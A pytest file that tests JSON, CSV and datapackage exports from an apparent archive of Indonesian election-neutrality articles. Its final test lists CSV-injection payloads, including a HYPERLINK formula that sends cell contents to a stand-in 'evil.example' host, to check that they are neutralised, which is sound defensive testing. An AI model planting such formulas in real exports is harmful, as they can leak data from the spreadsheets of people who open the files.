"""The exports plugin in a real (tiny) build: JSON and CSV with every field and the URL."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from arsip.schema import FIELD_ORDER
from exports.exports import COLUMNS, neutralise, to_csv
from tools.build import build

ARTICLES = {
    "2024/kedua": """---
title: "Pj Wali Kota: “netral” itu wajib"
title_editorial: true
date: 2024-10-03
region: Kota Padang
province: Sumatera Barat
official: Andree Algamar
role: Pj Wali Kota
source: Langgam.id
source_url: https://langgam.id/contoh/
election: Pilkada 2024
tags: [netralitas ASN, apel]
summary: Ringkasan satu kalimat tentang pernyataan.
---
Isi kedua.
""",
    "2020/pertama": """---
title: Judul artikel pertama
date: 2020-10-13
region: Kabupaten Bengkulu Selatan
province: Bengkulu
official: Sisardi
role: Pjs Bupati
source: Tidak diketahui
election: Pilkada 2020
tags: [netralitas ASN]
---
Isi pertama.
""",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("exports")
    content = root / "content"
    (content / "pages").mkdir(parents=True)
    for name, text in ARTICLES.items():
        path = content / "articles" / f"{name}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return build(content=content, output=root / "out", siteurl="https://example.org/arsip")


def test_columns_are_the_schema_fields_and_the_url() -> None:
    assert (*[f for f in FIELD_ORDER if f not in ("review", "people", "quotes")], "url") == COLUMNS


def test_json_has_one_record_per_article_oldest_first(site: Path) -> None:
    raw = (site / "data/articles.json").read_bytes()
    assert "“netral”".encode() in raw  # UTF-8, not \\u escapes
    records = json.loads(raw.decode("utf-8"))
    assert raw.decode("utf-8").splitlines()[1].startswith('{"title": "Judul artikel pertama"')
    assert [r["date"] for r in records] == ["2020-10-13", "2024-10-03"]
    first, second = records
    assert list(first) == list(COLUMNS)
    assert first["source"] == "Tidak diketahui"
    assert first["source_url"] == "" and first["summary"] == ""
    assert first["title_editorial"] is False
    assert first["url"] == "https://example.org/arsip/artikel/2020/pertama/"
    assert second == {
        "title": "Pj Wali Kota: “netral” itu wajib",
        "title_editorial": True,
        "date": "2024-10-03",
        "region": "Kota Padang",
        "province": "Sumatera Barat",
        "official": "Andree Algamar",
        "role": "Pj Wali Kota",
        "source": "Langgam.id",
        "source_url": "https://langgam.id/contoh/",
        "archived": "",
        "election": "Pilkada 2024",
        "tags": ["netralitas ASN", "apel"],
        "summary": "Ringkasan satu kalimat tentang pernyataan.",
        "url": "https://example.org/arsip/artikel/2024/kedua/",
    }


def test_csv_has_a_header_and_joined_tags(site: Path) -> None:
    text = (site / "data/articles.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0] == ",".join(COLUMNS)
    assert [r["region"] for r in rows] == ["Kabupaten Bengkulu Selatan", "Kota Padang"]
    assert rows[1]["tags"] == "netralitas ASN; apel"
    assert rows[1]["title"] == "Pj Wali Kota: “netral” itu wajib"
    assert rows[1]["title_editorial"] == "true"
    assert rows[0]["url"] == "https://example.org/arsip/artikel/2020/pertama/"


def test_footer_links_to_the_exports(site: Path) -> None:
    html = (site / "index.html").read_text(encoding="utf-8")
    assert 'href="https://example.org/arsip/data/articles.json"' in html
    assert 'href="https://example.org/arsip/data/articles.csv"' in html


def test_datapackage_names_both_files_and_the_licence(site: Path) -> None:
    package = json.loads((site / "data/datapackage.json").read_text(encoding="utf-8"))
    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "title": "Creative Commons Atribusi 4.0 Internasional (CC BY 4.0)",
            "path": "https://creativecommons.org/licenses/by/4.0/deed.id",
        }
    ]
    assert [(r["path"], r["format"]) for r in package["resources"]] == [
        ("articles.json", "json"),
        ("articles.csv", "csv"),
        ("people.json", "json"),
        ("people.csv", "csv"),
        ("quotes.json", "json"),
        ("quotes.csv", "csv"),
    ]
    for resource in package["resources"]:
        assert (site / "data" / resource["path"]).exists()
        assert resource["description"]
    # The CSV tables of people and quotes are described column by column, in file order.
    for resource in package["resources"][3::2]:
        header = (site / "data" / resource["path"]).read_text(encoding="utf-8").splitlines()[0]
        assert [f["name"] for f in resource["schema"]["fields"]] == header.split(",")
        assert resource["schema"]["primaryKey"] == ["id"]


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("https://evil.example/?d="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1"],
)
def test_csv_cells_a_spreadsheet_would_evaluate_are_text(value: str) -> None:
    record = dict.fromkeys(COLUMNS, "x") | {"tags": ["a"], "title_editorial": False}
    text = to_csv([record | {"summary": value}])
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["summary"] == "'" + value
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("Ringkasan = biasa") == "Ringkasan = biasa"  # only the first character
